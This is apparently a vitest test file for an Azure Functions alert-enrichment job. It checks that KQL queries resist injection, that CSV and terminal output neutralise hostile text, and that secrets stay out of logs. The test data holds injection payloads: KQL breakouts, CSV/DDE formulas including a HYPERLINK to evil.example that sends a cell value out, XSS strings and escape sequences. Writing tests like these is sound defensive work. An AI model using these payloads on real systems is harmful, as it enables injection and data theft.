import { InvocationContext } from "@azure/functions";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { createEnrichHttp } from "../../functions/enrichHttp.js";
import { createEnrichTimer } from "../../functions/enrichTimer.js";
import { createJobDeps } from "../../lib/adapters/azure/createJobDeps.js";
import { ConfigError } from "../../lib/core/errors.js";
import { RECORD_COLUMNS } from "../../lib/core/records/columns.js";
import type { EnrichmentRecord } from "../../lib/core/records/EnrichmentRecord.js";
import { parseConfig } from "../../lib/job/config/parseConfig.js";
import { buildAlertQuery } from "../../lib/job/kql/buildAlertQuery.js";
import { buildBaselineQuery, buildCandidateRequestsQuery } from "../../lib/job/kql/buildRequestQueries.js";
import { kqlTokens } from "../../tools/doubles/kqlTokens.js";
import { DEVSTORE_KEY } from "../../tools/doubles/startAzurite.js";
import { TEST_BEARER_TOKEN } from "../../tools/doubles/staticTokenCredential.js";
import { type AzureHarness, RULE_ID, startAzureHarness, WORKSPACE_ID } from "../functions/azureHarness.js";
import { formatText } from "../support/formatText.js";
import { validateKql } from "../support/kusto.js";
import { buildFaultData } from "./buildFaultData.js";
import { markdownTable, writeReportSection } from "./writeReportSection.js";

// Injection: values from the HTTP trigger and the app settings never change a query's meaning (refused, or one
// string literal in Kusto's own parser); attacker text in the data stays data in Table Storage, the custom table,
// CSV and the terminal; no secret reaches a log line or an HTTP answer.

const DAY = { from: "2026-11-20T00:00:00Z", to: "2026-11-21T00:00:00Z" };
/** Quotes, pipes, semicolons, comments, line breaks and look-alikes: what tries to end a literal or a statement. */
const PAYLOADS = [
  '" | take 1',
  "' or 1==1 //",
  "x; SecurityAlert | take 10",
  "a\n| union W3CIISLog",
  "// comment",
  "/* open",
  '\\" | project x',
  "ｗ３ｗｐ.exe", // full-width look-alikes
  "w3wp.exе", // Cyrillic "е"
  "2026‐11‐20", // U+2010 hyphens
  "\u202eexe.pww3",
  '@"verbatim"',
  "```",
  "h'x'",
];
const tally = { http: 0, config: 0, data: 0, secrets: 0 };
const done = new Set<string>();

afterAll(async () => {
  if (done.size !== 4) return;
  const table = markdownTable(
    ["where a hostile value enters", "cases", "what happens"],
    [
      [
        "HTTP trigger parameters (`from`, `to`, `mode`, `dryRun`, unknown names)",
        tally.http,
        "400 with the list of problems before any query is sent; times reach KQL only as `datetime(…)` of a parsed instant",
      ],
      [
        "app settings that reach KQL (lists: extensions, worker images, providers, products; stream; table)",
        tally.config,
        "ConfigError at start-up naming the setting (control characters, line breaks, bad names), else one string literal in Kusto's parser",
      ],
      [
        "attacker text in the data (command line, alert name, user agent, query string, referer)",
        tally.data,
        "equal, byte for byte, in the HTTP answer, the custom table and Table Storage; CSV cells starting with = + - @ tab CR get a leading '; terminal output shows control characters as \\xNN",
      ],
      [
        "logs and HTTP answers (invocations that succeed, fail in each sink, or start with an invalid configuration holding a pasted secret)",
        tally.secrets,
        "no bearer token, account key, connection string, SAS signature or password in any log line or answer",
      ],
    ],
  );
  await writeReportSection(
    "injection",
    `${table}\n\nThe workbook (infra/workbook.json) renders no query result as markdown, HTML or a link ` +
      "(test/infra/workbook.test.ts).",
  );
});

/** Whether Kusto's parser reads `value` in `query` as one whole string literal (and nowhere as anything else). */
function carriedAsLiteral(query: string, value: string): boolean {
  const tokens = kqlTokens(query);
  return tokens.some((token) => token.value === value && /^(@?["'])/.test(token.text));
}

describe("HTTP trigger parameters", () => {
  let harness: AzureHarness;
  beforeAll(async () => {
    harness = await startAzureHarness((await buildFaultData()).data);
  });
  afterAll(async () => harness.close());

  it("refuses every hostile value with 400 before a query is sent", async () => {
    const requests: Record<string, string>[] = [];
    for (const payload of PAYLOADS) {
      requests.push(
        { ...DAY, from: `${DAY.from}${payload}` },
        { ...DAY, to: payload },
        { ...DAY, mode: `precise${payload}` },
        { ...DAY, dryRun: `true${payload}` },
        { ...DAY, [`x${payload}`]: "1" },
      );
    }
    requests.push(
      { ...DAY, from: "２０２６-１１-２０T00:00:00Z" },
      { ...DAY, from: "now()" },
      { ...DAY, from: "ago(1d)" },
      { ...DAY, mode: "ｐｒｅｃｉｓｅ" },
      { ...DAY, mode: "PRECISE" },
    );
    for (const query of requests) {
      const response = await harness.http(query);
      expect(response.status, JSON.stringify(query)).toBe(400);
      expect((response.body.errors as string[]).length).toBeGreaterThan(0);
    }
    expect(harness.la.requests).toEqual([]);
    tally.http = requests.length;
    done.add("http");
  });

  it("sends times only as datetime literals of the parsed instant", async () => {
    const response = await harness.http({ from: "2026-11-20T00:00:00+00:00", to: DAY.to, dryRun: "true" });
    expect(response.status).toBe(200);
    for (const { query } of harness.la.requests) {
      expect(validateKql(query), query).toEqual([]);
      expect(query).not.toContain("+00:00");
    }
  });
});

describe("app settings that reach KQL", () => {
  const LIST_SETTINGS = [
    "ENRICH_WORKER_IMAGES",
    "ENRICH_ALERT_PROVIDERS",
    "ENRICH_ALERT_PRODUCTS",
    "ENRICH_SCRIPT_EXTENSIONS",
  ] as const;
  const BASE = {
    LOG_ANALYTICS_WORKSPACE_ID: WORKSPACE_ID,
    LOGS_INGESTION_ENDPOINT: "https://dce.example",
    LOGS_INGESTION_RULE_ID: RULE_ID,
    ENRICHMENT_TABLE_ENDPOINT: "https://account.table.core.windows.net",
  };

  it("refuses, at start-up and by name, values a KQL literal cannot carry", () => {
    const refused = [
      ...LIST_SETTINGS.flatMap((name) =>
        ["w3wp.exe\n| take 1", "a\rb", "x\u0000", "a\u2028b", "\u202eexe"].map((value) => ({
          [name]: value,
        })),
      ),
      { LOGS_INGESTION_STREAM: "Custom-X_CL | take 1" },
      { LOGS_INGESTION_STREAM: "Custom-X_CL;drop" },
      { ENRICHMENT_TABLE_NAME: "Web'Shell" },
      { LOG_ANALYTICS_WORKSPACE_ID: `${WORKSPACE_ID}" | take 1` },
    ];
    for (const setting of refused) {
      const name = Object.keys(setting)[0]!;
      expect(() => parseConfig({ ...BASE, ...setting }), name).toThrow(ConfigError);
      expect(() => parseConfig({ ...BASE, ...setting })).toThrow(new RegExp(`- ${name}: expected`));
    }
    tally.config += refused.length;
  });

  it("keeps every other value one string literal in each query that uses it", () => {
    for (const name of LIST_SETTINGS) {
      for (const payload of PAYLOADS.filter((p) => !p.includes("\n") && !p.includes("\u202e"))) {
        const value = `w3wp.exe${payload}`;
        const config = parseConfig({ ...BASE, [name]: `first,${value}` });
        const engine = config.engine;
        const interval = { hostKey: "web01", from: Date.parse(DAY.from), to: Date.parse(DAY.to) };
        const request = {
          mode: "precise" as const,
          intervals: [interval],
          scriptExtensions: engine.scriptExtensions,
          maxRequestDurationMs: engine.maxRequestDurationMs,
        };
        const queries = [
          buildAlertQuery({
            mode: "precise",
            from: interval.from,
            to: interval.to,
            by: "ingestion",
            providers: engine.alertProviders,
            products: engine.alertProducts,
            workerImages: engine.workerImages,
          }),
          buildCandidateRequestsQuery(request),
          buildBaselineQuery({ ...request, baselineFrom: 0, baselineTo: interval.to, scope: "page", cap: 4 }),
        ];
        for (const query of queries) expect(validateKql(query), `${name}=${value}\n${query}`).toEqual([]);
        // Worker images, providers and products go into the alert query; extensions into the request queries.
        const carriers = name === "ENRICH_SCRIPT_EXTENSIONS" ? queries.slice(1) : queries.slice(0, 1);
        for (const query of carriers) expect(carriedAsLiteral(query, value), `${name}=${value}`).toBe(true);
        tally.config += 1;
      }
    }
  });

  it("sends only valid KQL carrying the values as literals, end to end", async () => {
    const value = `w3wp.exe" | take 1 // ; '`;
    const harness = await startAzureHarness((await buildFaultData()).data, {
      ENRICH_WORKER_IMAGES: `w3wp.exe,${value}`,
    });
    try {
      await harness.timer().catch(() => undefined); // the fake workspace may not follow such a list: the text is what counts
      expect(harness.la.requests.length).toBeGreaterThan(0);
      for (const { query } of harness.la.requests) expect(validateKql(query), query).toEqual([]);
      expect(carriedAsLiteral(harness.la.requests[0]!.query, value)).toBe(true);
    } finally {
      await harness.close();
    }
    tally.config += 1;
    done.add("config");
  });
});

describe("attacker text in the data", () => {
  // Text the attacker controls: the command the shell ran, and what the attacker's requests carried.
  const COMMAND = `=cmd|' /C calc'!A0 & echo "<script>alert(1)</script>" | more; // \u0007\u001b[31mred\r\n\u202etxt.exe`;
  const ALERT_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
  // Kept as logged, "+" and all (docs/design.md §4.10): the records carry it unchanged.
  const USER_AGENT = `@SUM(1*1)|cmd|' /C calc'!A0 <img src=x onerror=alert(1)> "quoted" \u0000\u001b]0;title\u0007`;
  const QUERY = `+cmd=whoami&x='"|;--<b>`;
  const REFERER = `-2+3 javascript:alert(document.cookie)`;
  let harness: AzureHarness;
  let records: Record<string, unknown>[];

  beforeAll(async () => {
    const { data } = await buildFaultData({
      copies: 1,
      commandLine: () => COMMAND,
      hostile: () => ({ alertName: ALERT_NAME }),
    });
    const iis = data.iis.map((row) =>
      row.cIP === "203.0.113.77"
        ? { ...row, csUserAgent: USER_AGENT, csUriQuery: QUERY, csReferer: REFERER }
        : row,
    );
    harness = await startAzureHarness({ alerts: data.alerts, iis });
    const response = await harness.http(DAY);
    expect(response.status).toBe(200);
    records = response.body.records as Record<string, unknown>[];
  });
  afterAll(async () => harness.close());

  it("reaches the custom table and Table Storage equal to what the engine produced", async () => {
    const hostile = records.find((record) => record.ProcessCommandLine === COMMAND);
    expect(hostile?.AlertName).toBe(ALERT_NAME);
    expect(hostile?.AttackerUserAgents).toContain(USER_AGENT);
    const ingested = new Map(harness.ingestedRows().map((row) => [row.RecordId, row]));
    const stored = new Map((await harness.tableRecords()).map((row) => [row.RecordId, row]));
    for (const record of records) {
      const { EnrichedAt: _, ...columns } = record;
      expect(ingested.get(record.RecordId)).toMatchObject(columns);
      const entity = stored.get(record.RecordId)!;
      for (const column of RECORD_COLUMNS) {
        const value = record[column.name];
        if (value === null || column.name === "EnrichedAt") continue;
        const back = entity[column.name];
        if (column.type === "dynamic") expect(JSON.parse(String(back)), column.name).toEqual(value);
        else if (column.type === "datetime") expect((back as Date).toISOString(), column.name).toBe(value);
        else expect(back, column.name).toBe(value);
      }
    }
    tally.data += 5;
  });

  it("writes CSV whose formula-looking cells are neutralised and whose other cells are the values", () => {
    const csv = formatText(records.map(toEnrichmentRecord), "csv");
    const rows = parse<Record<string, string>>(csv, { columns: true });
    const hostile = rows.find((row) => row.ProcessCommandLine === `'${COMMAND}`);
    expect(hostile).toBeDefined();
    expect(hostile?.AlertName).toBe(`'${ALERT_NAME}`);
    for (const row of rows) {
      for (const [name, cell] of Object.entries(row)) {
        expect(/^[=+\-@\t\r]/.test(cell), `${name}: ${cell}`).toBe(false);
      }
    }
    const evidence = JSON.parse(hostile!.Evidence!.replace(/^'/, "")) as {
      uriQuery: string;
      userAgent: string;
    }[];
    expect(evidence.map((e) => e.uriQuery)).toContain(QUERY);
    expect(evidence.map((e) => e.userAgent)).toContain(USER_AGENT);
  });

  it("prints a terminal table in which control characters are inert", () => {
    const table = formatText(records.map(toEnrichmentRecord), "table", 400);
    // eslint-disable-next-line no-control-regex -- looking for control characters is the point
    expect(table).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f\u202e]/);
    expect(table).toContain("\\x1b[31mred");
    done.add("data");
  });
});

describe("secrets in logs and answers", () => {
  const SECRETS = [TEST_BEARER_TOKEN, DEVSTORE_KEY, DEVSTORE_KEY.slice(0, 24)];
  // A credential's name may be named (to say which setting is wrong), its value never.
  const SECRET_VALUES = /(AccountKey|SharedAccessSignature|sig|password)=(?!\*\*\*)|Bearer (?!\*\*\*)/i;
  const SAS =
    "sv=2024-11-04&ss=t&srt=sco&sp=rwdlacu&se=2027-01-01T00:00:00Z&sig=c2VjcmV0LXNpZ25hdHVyZQ%3D%3D";

  function expectNoSecret(texts: readonly string[]) {
    const all = texts.join("\n");
    for (const secret of SECRETS) expect(all, secret).not.toContain(secret);
    expect(all).not.toMatch(SECRET_VALUES);
    expect(all).not.toContain("c2VjcmV0LXNpZ25hdHVyZQ");
  }

  it("logs none while runs succeed and fail in every sink", async () => {
    const harness = await startAzureHarness((await buildFaultData()).data);
    try {
      await harness.timer();
      harness.clock.now += 15 * 60_000;
      harness.la.faults.push({ kind: "badRequest" });
      await harness.timer().catch(() => undefined);
      harness.ingestion.faults.push({ kind: "reject", status: 403 }, { times: Infinity });
      const answer = await harness.http({ from: "2026-11-19T00:00:00Z", to: "2026-11-20T12:00:00Z" });
      harness.ingestion.faults.clear();
      await harness.azurite.stop();
      await harness.timer().catch(() => undefined);
      const failed = await harness.http(DAY);
      await harness.azurite.restart();
      expect(harness.logs.length).toBeGreaterThan(3);
      expectNoSecret([...harness.logs, JSON.stringify(answer), JSON.stringify(failed)]);
      tally.secrets += 5; // invocations: success, query 400, ingestion 403, Table Storage down (timer and HTTP)
    } finally {
      await harness.close();
    }
  });

  it("logs none when the configuration is invalid, even when a secret was pasted into the wrong setting", async () => {
    const connection = `DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=${DEVSTORE_KEY};EndpointSuffix=core.windows.net`;
    const envs: Record<string, string>[] = [
      { LOG_ANALYTICS_WORKSPACE_ID: connection, ENRICHMENT_TABLE_CONNECTION: connection },
      { ENRICHMENT_TABLE_ENDPOINT: `http://acct.table.core.windows.net/?${SAS}` },
      {
        LOGS_INGESTION_RULE_ID: `Bearer ${TEST_BEARER_TOKEN}`,
        ENRICHMENT_TABLE_ENDPOINT: "https://a.example",
      },
      { ENRICH_MODE: `SharedAccessSignature=${SAS}`, ENRICHMENT_TABLE_CONNECTION: connection },
      { ENRICH_TIME_BUDGET: DEVSTORE_KEY, ENRICHMENT_TABLE_CONNECTION: connection },
    ];
    const logs: string[] = [];
    const context = () =>
      new InvocationContext({
        functionName: "enrich",
        logHandler: (_level, ...args) => logs.push(args.map(String).join(" ")),
      });
    for (const env of envs) {
      const getDeps = () => Promise.resolve().then(() => createJobDeps(parseConfig(env)));
      await expect(createEnrichTimer(getDeps)({} as never, context())).rejects.toThrow(ConfigError);
      const { HttpRequest } = await import("@azure/functions");
      const response = await createEnrichHttp(getDeps)(
        new HttpRequest({
          method: "GET",
          url: `https://app.example/api/enrich?from=${DAY.from}&to=${DAY.to}`,
        }),
        context(),
      );
      expect(response.status).toBe(500);
      logs.push(JSON.stringify(response.jsonBody));
    }
    expect(logs.join("\n")).toMatch(/Invalid configuration/);
    expectNoSecret(logs);
    tally.secrets += 2 * envs.length; // the timer and the HTTP trigger on each invalid configuration
    done.add("secrets");
  });
});

/** A JSON record (as the HTTP answer gives it) as the engine's record, for the output formatters. */
function toEnrichmentRecord(json: Record<string, unknown>): EnrichmentRecord {
  const record: Record<string, unknown> = {};
  for (const column of RECORD_COLUMNS) {
    const value = json[column.name];
    record[column.name] = column.type === "datetime" && typeof value === "string" ? Date.parse(value) : value;
  }
  return record as unknown as EnrichmentRecord;
}
